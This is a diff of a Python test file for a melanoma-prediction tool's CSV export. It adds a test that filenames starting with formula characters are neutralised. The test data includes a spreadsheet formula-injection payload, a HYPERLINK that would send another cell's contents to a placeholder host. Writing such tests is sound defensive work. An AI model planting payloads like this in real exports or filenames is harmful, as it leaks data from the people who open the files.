@@ -1,5 +1,6 @@
 """`melanoma predict`'s library: which files it scores, how it decides and prints, its CSV."""
 
+import csv
 import os
 from pathlib import Path
 
@@ -111,6 +112,22 @@ def test_predictions_csv_never_overwrites_a_photo_or_invents_a_folder(tmp_path):
     with pytest.raises(UserError, match="--csv's folder .*typo does not exist"):
         write_predictions_csv(tmp_path / "typo" / "o.csv", [Prediction(str(photo), 0.3, False)], BY)
     assert not (tmp_path / "typo").exists()
+
+
+def test_a_photo_or_checkpoint_named_like_a_formula_is_written_as_text(tmp_path):
+    """A spreadsheet opening the CSV ran '=HYPERLINK(...)' in a photo's name as a formula; as
+    ./=HYPERLINK(...) it is text and still names the same file. Other names are as given."""
+    names = ['=HYPERLINK("http:\\\\x\\?"&B2,"see").jpg', "+1.jpg", "-a.jpg", "@b.jpg",
+             "\t=c.jpg", "a=b.jpg", "/abs/=d.jpg"]  # fmt: skip
+    by = DecidedBy("youden", 0.5, "=ckpt", "ab" * 32)
+    out = tmp_path / "o.csv"
+    write_predictions_csv(out, [Prediction(name, 0.3, False) for name in names], by)
+    with out.open(newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    shown = [name if name[0] in "a/" else os.path.join(".", name) for name in names]
+    assert [row["path"] for row in rows] == shown
+    assert {row["checkpoint"] for row in rows} == {os.path.join(".", "=ckpt")}
+    assert [Path(row["path"]) for row in rows] == [Path(name) for name in names]  # same files
 
 
 def test_a_photo_named_twice_is_scored_once(tmp_path):
